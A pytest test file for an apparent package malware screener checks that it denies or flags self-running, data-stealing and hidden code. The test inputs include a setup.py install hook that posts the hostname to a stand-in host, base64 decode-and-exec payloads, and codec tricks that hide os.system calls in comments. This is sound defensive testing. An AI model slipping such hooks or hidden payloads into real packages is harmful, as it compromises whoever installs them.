"""Code of packages that runs by itself and steals, hides or downloads (PKG-1)."""

from __future__ import annotations

import pytest

from cellwall.core.verdict import Verdict
from cellwall.packages.inspection import code_screening
from cellwall.packages.inspection.code_screening import CodeScreening
from unit.packages.inspection.malware import (
    HONEST_JAVASCRIPT,
    HONEST_PYTHON,
    JAVASCRIPT,
    PYTHON,
)


def screen(*files, installing=(), **options):
    screening = CodeScreening(**options)
    for path, source in files:
        screening.add(path, source if isinstance(source, bytes) else source.encode())
    return screening.findings(frozenset(installing))


def verdicts(*files, **options):
    return {(each.code, each.verdict) for each in screen(*files, **options)}


@pytest.mark.requirement("PKG-1")
@pytest.mark.parametrize("name", PYTHON)
def test_malicious_python_is_denied_at_import(name):
    source, code = PYTHON[name]
    assert (code, Verdict.DENY) in verdicts(("thing/__init__.py", source))


@pytest.mark.requirement("PKG-1")
@pytest.mark.parametrize("name", JAVASCRIPT)
def test_malicious_javascript_is_denied_at_load_and_at_installation(name):
    source, code = JAVASCRIPT[name]
    assert (code, Verdict.DENY) in verdicts(("index.js", source))
    assert (code, Verdict.DENY) in verdicts(("setup.js", source), installing=["setup.js"])


@pytest.mark.parametrize("name", HONEST_PYTHON)
def test_honest_python_has_no_finding(name):
    assert verdicts(("thing/__init__.py", HONEST_PYTHON[name])) == set()


@pytest.mark.parametrize("name", HONEST_JAVASCRIPT)
def test_honest_javascript_has_no_finding(name):
    assert verdicts(("index.js", HONEST_JAVASCRIPT[name])) == set()


def test_a_proof_counts_for_a_widely_used_package_and_a_question_does_not():
    denied, *_ = screen(("a.py", PYTHON["exec-base64"][0]))
    function = "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQ='))\n"
    asked, *_ = screen(("a.py", function))
    assert denied.weigh(is_widely_used=True) is Verdict.DENY
    assert (asked.verdict, asked.weigh(is_widely_used=True)) == (Verdict.ASK, Verdict.ALLOW)


def test_a_finding_names_file_and_line_and_no_text_of_the_file():
    source = "x = 1\n\nimport base64\nexec(base64.b64decode('c2VjcmV0'))\n"
    finding, *_ = screen(("thing/core.py", source))
    assert finding.text == ("thing/core.py runs code that it decodes (line 4), when it is imported")


def test_a_function_that_another_file_runs_at_import_counts_as_import():
    payload = "import base64\ndef start():\n    exec(base64.b64decode('cHJpbnQ='))\n"
    first = "from thing._core import start\nstart()\n"
    alone = verdicts(("thing/_core.py", payload))
    both = verdicts(("thing/_core.py", payload), ("thing/__init__.py", first))
    assert alone == {("run-decoded", Verdict.ASK)}
    assert both == {("run-decoded", Verdict.DENY)}


def test_the_commands_of_a_setup_script_run_at_installation():
    source = (
        "import socket, requests\nfrom setuptools.command.install import install\n"
        "class Now(install):\n    def run(self):\n"
        "        requests.post('https://a.example', data=socket.gethostname())\n"
    )
    assert verdicts(("setup.py", source), installing=["setup.py"]) == {
        ("steals-data", Verdict.DENY)
    }
    assert verdicts(("thing/setup.py", source)) == set()


@pytest.mark.requirement("PKG-1")
def test_a_credential_is_a_note_without_its_value():
    token = "ghp_" + "Zq8vT3kLm9XwR2yB7nC5dF1gH4jK6pS0aUeI"
    finding, *_ = screen(("thing/config.py", f"TOKEN = '{token}'\n"))
    assert (finding.code, finding.verdict) == ("credential", Verdict.ALLOW)
    assert "thing/config.py" in finding.text
    assert token not in finding.text


@pytest.mark.requirement("PKG-1")
def test_code_that_is_not_inspected_within_the_limits_is_asked_about(monkeypatch):
    many = ("import base64\nexec(base64.b64decode(x))\n" * 40, "import requests, os\n")
    monkeypatch.setattr(code_screening, "_BASE_S", 0.0)
    monkeypatch.setattr(code_screening, "_PER_BYTE_S", 0.0)
    assert ("not-inspected", Verdict.ASK) in verdicts(*((f"{n}.py", s) for n, s in enumerate(many)))
    monkeypatch.undo()
    monkeypatch.setattr(code_screening, "MAX_KEPT_BYTES", 100)
    assert ("not-inspected", Verdict.ASK) in verdicts(("a.py", many[0]))


@pytest.mark.requirement("PKG-1")
def test_a_source_padded_beyond_the_limit_is_asked_about():
    asked = {("not-inspected", Verdict.ASK)}
    assert verdicts(("a.py", PYTHON["exec-base64"][0] + "# pad\n" * 200_000)) == asked
    padding = "// pad\n" * 100_000
    long = JAVASCRIPT["environment"][0] + padding
    assert verdicts(("a.js", long), runs_javascript=True) == asked
    assert verdicts(("a.js", "module.exports = 1\n" + padding), runs_javascript=True) == set()
    screening = CodeScreening(runs_javascript=True)
    screening.add("a.js", b"1", size=5 * 2**20)
    assert [each.code for each in screening.findings()] == ["not-inspected"]
    # A package of Python brings such files for browsers.
    assert verdicts(("a.js", long)) == set()


@pytest.mark.slow
@pytest.mark.parametrize(
    "source",
    [b"", b"\0" * 100, b"\xff\xfe", b"exec(", b"(" * 50_000, b"exec(b64decode(" * 5000, b"x = 1\n" * 1000,
     b"import requests, os\n" + b"a." * 30_000, b"exec(base64.b64decode('" + b"A" * 100_000],
)  # fmt: skip
@pytest.mark.parametrize("path", ["a.py", "a.js", "a.pth"])
def test_hostile_sources_do_not_break_the_screening(path, source):
    assert all(each.verdict in Verdict for each in screen((path, source), installing=[path]))


@pytest.mark.requirement("PKG-1")
def test_python_that_cannot_be_parsed_is_asked_about_where_it_names_what_rules_look_for():
    stealing = PYTHON["environment"][0]
    asked, *_ = screen(("a.py", f"{stealing}print 'Python 2'\n"))
    assert (asked.code, asked.verdict) == ("not-inspected", Verdict.ASK)
    assert asked.weigh(is_widely_used=True) is Verdict.ALLOW
    assert verdicts(("a.py", "print 'Python 2'\n")) == set()
    assert verdicts(("a.py", stealing)) == {("steals-data", Verdict.DENY)}


@pytest.mark.requirement("PKG-1")
@pytest.mark.parametrize(
    ("codec", "line"),
    [
        ("unicode_escape", rb"#\nimport os;os.system('id')"),
        ("raw_unicode_escape", rb"#\u000aimport os;os.system('id')"),
        ("utf-7", b"#+AAo-import os+ADs-os.system('id')"),
        ("UTF7", b"#+AAo-import os+ADs-os.system('id')"),
        ("utf_16_le", b""),
    ],
)
def test_an_encoding_that_hides_code_in_comments_is_denied(codec, line):
    first = b"# -*- coding: %s -*-\n" % codec.encode()
    hidden = {("hidden-code", Verdict.DENY)}
    assert verdicts(("a.py", first + line)) == hidden
    assert verdicts(("a.py", b"#!/usr/bin/python\n" + first + line)) == hidden
    # Python reads the first two lines, and there the first one that names a codec.
    assert verdicts(("a.py", b"x = 1\n" + first + line)) == set()
    assert verdicts(("a.py", b"# coding: utf-8\n" + first + line)) == set()


@pytest.mark.parametrize("codec", ["utf-8", "UTF8", "latin-1", "cp1252", "gbk", "euc-jp", "ascii"])
def test_an_encoding_of_people_is_read(codec):
    source = f"# coding: {codec}\n" + PYTHON["environment"][0]
    assert verdicts(("a.py", source)) == {("steals-data", Verdict.DENY)}
    assert verdicts(("a.py", f"# coding: {codec}\nx = 1\n")) == set()


def test_python_that_is_cut_is_asked_about_whatever_its_start_is():
    screening = CodeScreening()
    screening.add("a.py", b"#" * 1000, size=5 * 2**20)
    assert [each.code for each in screening.findings()] == ["not-inspected"]
    assert verdicts(("a.py", b"#" * 1000)) == set()
